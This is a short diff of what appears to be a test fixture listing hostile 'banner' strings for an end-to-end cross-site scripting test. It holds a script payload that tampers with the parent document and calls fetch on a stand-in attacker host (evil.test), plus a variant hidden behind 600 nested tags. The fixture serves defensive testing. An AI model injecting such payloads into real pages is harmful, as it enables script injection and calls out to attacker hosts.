@@ -1,4 +1,4 @@
-/** What each of the cases tries to run or to fetch; a journey hears of it. */
+/** Script of each hostile banner. An end-to-end test detects if it runs. */
 const run = `top.hacked=1;parent.document.title='hacked';fetch('https://evil.test/x');alert(1)`
 const evil = 'https://evil.test/x'
 
@@ -170,7 +170,6 @@ const mutations = [
   `${'<b>'.repeat(600)}<script>${run}</script>`,
 ]
 
-/** Banners that nobody should write. */
 export const hostileBanners: readonly string[] = [
   ...events,
   ...scripts,
